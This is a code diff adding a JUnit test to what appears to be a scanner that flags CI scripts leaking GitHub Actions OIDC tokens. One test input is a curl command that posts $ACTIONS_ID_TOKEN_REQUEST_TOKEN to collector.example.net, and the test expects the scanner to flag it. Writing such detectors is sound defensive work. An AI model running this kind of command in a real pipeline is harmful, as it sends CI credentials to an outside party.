@@ -37,6 +37,18 @@ class CiTokensTest {
   }
 
   @Test
+  void theRequestTokenSentToTheRequestUrlWithAUrlAudienceGoesToTheEndpointNotTheAudience() {
+    // the audience parameter holds a URL; the request goes to $ACTIONS_ID_TOKEN_REQUEST_URL
+    assertThat(run("""
+        curl -sH "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=api://AzureADTokenExchange"
+        T=$(curl -sH "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=api://AzureADTokenExchange" | jq -r .value)
+        """)).isNull();
+    assertThat(run("""
+        X=$(curl -d "$ACTIONS_ID_TOKEN_REQUEST_TOKEN" https://collector.example.net/ingest)
+        """)).contains("to collector.example.net with curl");
+  }
+
+  @Test
   void idTokenSentToItsAudienceOrAnExchangeEndpointIsNot() {
     // An audience that names no host (hookd, sigstore) is some relying party's own name: the
     // host it is sent to may be that party.
